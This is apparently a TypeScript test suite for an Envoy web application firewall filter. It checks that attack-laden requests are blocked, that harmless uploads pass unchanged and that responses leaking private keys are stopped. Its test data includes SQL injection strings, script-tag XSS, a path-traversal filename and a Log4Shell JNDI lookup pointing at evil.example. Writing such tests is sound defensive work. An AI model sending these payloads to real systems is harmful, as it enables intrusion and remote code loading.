// What was seen to pass, break or leak at other filters for Envoy (Datadog's external processor, coraza-proxy-wasm), as requests that must not
// do so here: bodies first, and what goes with them.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { setTimeout as sleep } from "node:timers/promises";
import { after, before, describe, test } from "node:test";
import zlib from "node:zlib";
import { openExchange, perform } from "./open-exchange.ts";
import { ProtectedApi, withTrailers } from "./protected-api.ts";

const SQLI = "x' OR 1=1 -- ";
const LEAK = "-----BEGIN RSA PRIVATE KEY-----";
const JSON_TYPE = "application/json";
const MB = 1_000_000;

const CONFIGURATION = JSON.stringify({
  ...{ mode: "block", hold_headers: true, block_rules: ["wg-resp-004"] },
  routes: [
    { match: { path_prefix: "/held/" }, response_body: "BUFFERED" },
    {
      match: { path_prefix: "/partial/" },
      request_body: "BUFFERED_PARTIAL",
      response_body: "BUFFERED_PARTIAL",
    },
    { match: { path_prefix: "/observed/" }, mode: "observe" },
  ],
});

interface Upload {
  name: string;
  /** `undefined`: none is declared. */
  type?: string | undefined;
  body: string | Buffer;
  headers?: Record<string, string>;
}

const ATTACKED = JSON.stringify({ user: { name: SQLI } });
const MULTIPART = "multipart/form-data; boundary=b";

const BLOCKED_BODIES: Upload[] = [
  { name: "JSON without a content type", body: ATTACKED },
  ...[
    "application/json; charset",
    "application/json;",
    'application/json; charset="utf-8',
    "application/json; =x",
  ].map((type) => ({ name: `JSON as ${type}`, type, body: ATTACKED })),
  ...[
    "text/plain",
    "application/octet-stream",
    "application/x-unknown",
    "text/json",
    "application/vnd.api+json",
  ].map((type) => ({ name: `JSON as ${type}`, type, body: ATTACKED })),
  {
    ...{ name: "a form", type: "application/x-www-form-urlencoded" },
    body: `a=1&name=${encodeURIComponent(SQLI)}&b=2`,
  },
  {
    ...{ name: "a multipart field", type: MULTIPART },
    body: `--b\r\nContent-Disposition: form-data; name="n"\r\n\r\n${SQLI}\r\n--b--\r\n`,
  },
  {
    ...{ name: "a multipart file name", type: MULTIPART },
    body: `--b\r\nContent-Disposition: form-data; name="n"; filename="../../../../etc/passwd"\r\n\r\nx\r\n--b--\r\n`,
  },
  { name: "XML", type: "application/xml", body: `<order><name>${SQLI}</name></order>` },
  { name: "plain text", type: "text/plain", body: "Hello ${jndi:ldap://evil.example/a}" },
  { name: "a GraphQL document", type: "application/graphql", body: `{ user(name: "${SQLI}") { id } }` },
  {
    ...{ name: "a GraphQL variable", type: JSON_TYPE },
    body: JSON.stringify({ query: "query($n: String) { user(name: $n) { id } }", variables: { n: SQLI } }),
  },
  { name: "JSON with one closing brace too many", type: JSON_TYPE, body: `${ATTACKED}}` },
  { name: "JSON without its last brace", type: JSON_TYPE, body: ATTACKED.slice(0, -1) },
  { name: "JSON behind a byte order mark", type: JSON_TYPE, body: `\ufeff${ATTACKED}` },
  { name: "JSON that is not JSON from its start on", type: JSON_TYPE, body: `{user: {'name': "${SQLI}"` },
  ...(["gzip", "deflate"] as const).map((coding) => ({
    ...{ name: `JSON in ${coding}`, type: JSON_TYPE, headers: { "content-encoding": coding } },
    body: coding === "gzip" ? zlib.gzipSync(ATTACKED) : zlib.deflateSync(ATTACKED),
  })),
  { name: "the first of two equal keys", type: JSON_TYPE, body: `{"name":"${SQLI}","name":"Ada"}` },
  { name: "the second of two equal keys", type: JSON_TYPE, body: `{"name":"Ada","name":"${SQLI}"}` },
  { name: "a key", type: JSON_TYPE, body: JSON.stringify({ [SQLI]: 1 }) },
  {
    name: "character 4,097 of a string",
    type: JSON_TYPE,
    body: JSON.stringify({ note: "a".repeat(4096) + SQLI }),
  },
  {
    ...{ name: "element 257 of an array", type: JSON_TYPE },
    body: JSON.stringify([...Array.from({ length: 256 }, (_, i) => `item ${i}`), SQLI]),
  },
  {
    ...{ name: "member 257 of an object", type: JSON_TYPE },
    body: JSON.stringify(
      Object.fromEntries(Array.from({ length: 257 }, (_, i) => [`k${i}`, i < 256 ? "v" : SQLI])),
    ),
  },
  { name: "depth 21", type: JSON_TYPE, body: `${'{"a":'.repeat(21)}"${SQLI}"${"}".repeat(21)}` },
  ...[17_000, 35_000, 96_000, 140_000, 12 * MB].flatMap((size) => [
    { name: `the first key of ${size} bytes`, type: JSON_TYPE, body: orders(size, "first") },
    { name: `the last record of ${size} bytes`, type: JSON_TYPE, body: orders(size, "last") },
  ]),
];

const BENIGN_BODIES: (Upload & { method?: string })[] = [
  ...["PUT", "PATCH", "DELETE"].map((method) => ({
    ...{ name: `${method} with JSON`, method, type: JSON_TYPE, body: `{"name":"Miles O'Brien"}` },
  })),
  { name: "JSON:API", type: "application/vnd.api+json", body: '{"data":{"type":"items","id":"7"}}' },
  {
    name: "bytes",
    type: "application/octet-stream",
    body: Buffer.from([0, 1, 2, 3, 250, 251, 252, 253, 254, 255]),
  },
  { name: "plain text", type: "text/plain", body: "Delivered on time; it's fine -- keep it." },
  {
    name: "a GraphQL query",
    type: "application/graphql",
    body: "query Users { users(first: 10) { id name } }",
  },
  { name: "a GraphQL query in JSON", type: JSON_TYPE, body: '{"query":"{ users(first: 10) { id name } }"}' },
  {
    name: "prose with SQL's words",
    type: JSON_TYPE,
    body: '{"hint":"select one or more items from the list"}',
  },
  { name: "an upload of 12 MB", type: JSON_TYPE, body: orders(12 * MB) },
  {
    name: "an upload of 3 MB of bytes",
    type: "application/octet-stream",
    body: Buffer.alloc(3 * MB, "\x00\x01\xfe"),
  },
  { name: "malformed JSON without an attack", type: JSON_TYPE, body: '{"name":"Ada",' },
];

const BLOCKED_REQUESTS: { name: string; path: string; headers?: Record<string, string> }[] = [
  { name: "a query value behind a semicolon", path: "/api?a=1;id=1%27%20OR%201=1%20--%20x" },
  { name: "a query value with a semicolon", path: "/api?id=1%27%20OR%201=1;--+x" },
  { name: "a query value with a bad escape", path: "/api?id=1%27%20OR%201=1%20--%20%zz" },
  { name: "a segment of the path", path: "/api/items/1%27%20OR%201=1%20--%20x" },
  { name: "markup in the path", path: "/api/%3Cscript%3Ealert(1)%3C/script%3E" },
  { name: "a cookie", path: "/api", headers: { cookie: "a=1; id=1' OR 1=1 -- x" } },
  { name: "markup in a cookie", path: "/api", headers: { cookie: "id=<script>alert(1)</script>" } },
  { name: "a referer", path: "/api", headers: { referer: "https://x.example/?q=<script>alert(1)</script>" } },
  { name: "any header", path: "/api", headers: { "x-own": "${jndi:ldap://evil.example/a}" } },
  {
    name: "an authority that nobody configured",
    path: "/api?id=1%27%20OR%201=1%20--%20",
    headers: { host: "odd.example:81" },
  },
];

describe("weaknesses of others, Envoy 1.40.0", { concurrency: 4 }, () => {
  let api: ProtectedApi;
  before(async () => {
    api = await ProtectedApi.start({
      ...{ version: "1.40.0", configuration: CONFIGURATION, edit: withTrailers, keepsRaw: false },
    });
  });
  after(() => api?.stop());

  describe("requests", { concurrency: 4 }, () => requestTests(() => api));
  describe("responses", { concurrency: 4 }, () => responseTests(() => api));
  describe("observing", () => observingTests(() => api));
});

function requestTests(api: () => ProtectedApi): void {
  for (const upload of BLOCKED_BODIES) {
    test(`attack in ${upload.name} → 403, the service does not get the request`, async () => {
      const { id, response } = await post(api(), "/api/", upload);
      assert.deepEqual([response.status, response.ending], [403, "complete"]);
      // A long body's judged beginning may have gone before the attack came.
      assert.ok(
        api()
          .upstream.of(id)
          .every((request) => !request.complete),
      );
      if (upload.body.length <= 131_072) assert.equal(api().upstream.of(id).length, 0);
      api().upstream.forget(id);
    });
  }

  for (const upload of BENIGN_BODIES) {
    for (const prefix of ["/api/", "/partial/"]) {
      test(`${upload.name}, ${prefix} → passes unchanged`, async () => {
        const { id, response } = await post(api(), prefix, upload);
        assert.deepEqual([response.status, response.ending], [200, "complete"]);
        const [request] = api().upstream.of(id);
        assert.ok(request?.complete && request.body.equals(Buffer.from(upload.body)));
        api().upstream.forget(id);
      });
    }
  }

  for (const { name, path, headers } of BLOCKED_REQUESTS) {
    test(`attack in ${name} → 403, nothing arrives`, async () => {
      const id = randomUUID();
      const request = { protocol: "HTTP/1.1", path, headers: { "x-test-id": id, ...headers } } as const;
      assert.equal((await perform(api().port, request)).status, 403);
      assert.equal(api().upstream.of(id).length, 0);
    });
  }

  for (const protocol of ["HTTP/1.1", "HTTP/2"] as const) {
    for (const length of [ATTACKED.length, undefined]) {
      const framing = length === undefined ? "no declared length" : "content-length";
      test(`body in a packet after the headers, ${protocol}, ${framing} → 403, not a byte and no headers arrive`, async () => {
        const id = randomUUID();
        const exchange = await openExchange(protocol, api().port, {
          ...{ method: "POST", path: `/api/${id}`, headers: { "x-test-id": id, "content-type": JSON_TYPE } },
          ...(length === undefined ? {} : { length }),
        });
        // Time in which headers that are not held would arrive.
        await sleep(50);
        await exchange.send(Buffer.from(ATTACKED));
        exchange.end();
        const { response } = exchange;
        await response.changes.until("the end", () => response.ending);
        exchange.abort();
        assert.equal(response.status, 403);
        assert.equal(api().upstream.of(id).length, 0);
      });
    }
  }

  test("the block page is there once, and is JSON", async () => {
    const { response } = await post(api(), "/api/", { name: "", type: JSON_TYPE, body: ATTACKED });
    assert.equal(response.headers["content-type"], JSON_TYPE);
    assert.equal(Number(response.headers["content-length"]), response.body.length);
    assert.equal(typeof JSON.parse(response.body.toString()), "object");
  });
}

function responseTests(api: () => ProtectedApi): void {
  for (const [type, body] of [
    [JSON_TYPE, JSON.stringify({ key: LEAK })],
    ["text/plain", `key:\n${LEAK}\n`],
    ["text/html", `<p>${LEAK}</p>`],
    ["application/xml", `<key>${LEAK}</key>`],
    [undefined, `key: ${LEAK}`],
    [JSON_TYPE, JSON.stringify({ key: LEAK, rows: orders(90_000) })],
    [JSON_TYPE, JSON.stringify({ key: LEAK, rows: orders(3 * MB) })],
  ] as const) {
    for (const framing of ["content-length", "chunked"] as const) {
      test(`leak in a response of ${body.length} bytes, ${type ?? "no type"}, ${framing} → 403 with the page, no byte of it`, async () => {
        const { path, response } = await get(api(), "/held/", type, body, framing);
        assert.deepEqual([response.status, response.ending], [403, "complete"]);
        assert.equal(response.body.includes(LEAK) || response.body.includes(0), false);
        JSON.parse(response.body.toString());
        const { event } = await api().traffic.of(path);
        assert.deepEqual([event?.action, event?.phase, event?.["status"]], ["block", "response_body", 403]);
      });
    }
  }

  for (const prefix of ["/api/", "/held/", "/partial/"]) {
    for (const size of [1.5 * MB, 12 * MB]) {
      test(`harmless response of ${size} bytes, ${prefix} → arrives whole`, async () => {
        const body = orders(size);
        const { response } = await get(api(), prefix, JSON_TYPE, body, "chunked");
        assert.deepEqual([response.status, response.ending], [200, "complete"]);
        assert.ok(response.body.equals(Buffer.from(body)));
      });
    }
  }
}

function observingTests(api: () => ProtectedApi): void {
  test("attack and leak that are observed → served, and nothing says that they were blocked", async () => {
    const id = randomUUID();
    api().upstream.reply(id, {
      status: 200,
      headers: { "content-type": JSON_TYPE },
      body: `{"key":"${LEAK}"}`,
    });
    const { path, response } = await post(
      api(),
      "/observed/",
      { name: "", type: JSON_TYPE, body: ATTACKED },
      id,
    );
    assert.equal(response.status, 200);
    assert.ok(response.body.includes(LEAK));
    assert.ok(api().upstream.of(id)[0]?.complete);
    const { access, event } = await api().traffic.of(path);
    assert.deepEqual([event?.action, event?.would_block, event?.["status"]], ["monitor", true, 200]);
    assert.equal(access["wardgate_action"], "monitor");
  });
}

async function post(
  api: ProtectedApi,
  prefix: string,
  upload: Upload & { method?: string },
  id: string = randomUUID(),
) {
  const body = Buffer.from(upload.body);
  const path = `${prefix}${id}`;
  const type: Record<string, string> = upload.type === undefined ? {} : { "content-type": upload.type };
  const response = await perform(api.port, {
    ...{ protocol: "HTTP/1.1", method: upload.method ?? "POST", path, body: [body], length: body.length },
    headers: { "x-test-id": id, ...type, ...upload.headers },
  });
  return { id, path, response };
}

async function get(
  api: ProtectedApi,
  prefix: string,
  type: string | undefined,
  body: string,
  framing: "content-length" | "chunked",
) {
  const id = randomUUID();
  const path = `${prefix}${id}`;
  const headers: Record<string, string> = type === undefined ? {} : { "content-type": type };
  api.upstream.reply(id, { status: 200, headers, body, framing });
  const response = await perform(api.port, { protocol: "HTTP/1.1", path, headers: { "x-test-id": id } });
  api.upstream.forget(id);
  return { path, response };
}

/** JSON of about `size` bytes, with an attack in its first member or its last record. */
function orders(size: number, attackIn?: "first" | "last"): string {
  const rows: string[] = [];
  for (let length = 0, i = 0; length < size; i++) {
    const row = JSON.stringify({
      id: i,
      item: `Lamp ${i}`,
      price: i / 4,
      tags: ["new", "garden"],
      note: "On time.",
    });
    rows.push(row);
    length += row.length + 1;
  }
  if (attackIn === "last") rows[rows.length - 1] = JSON.stringify({ id: 0, item: SQLI });
  const first = JSON.stringify(attackIn === "first" ? SQLI : "Ada");
  return `{"customer":${first},"rows":[${rows.join(",")}]}`;
}
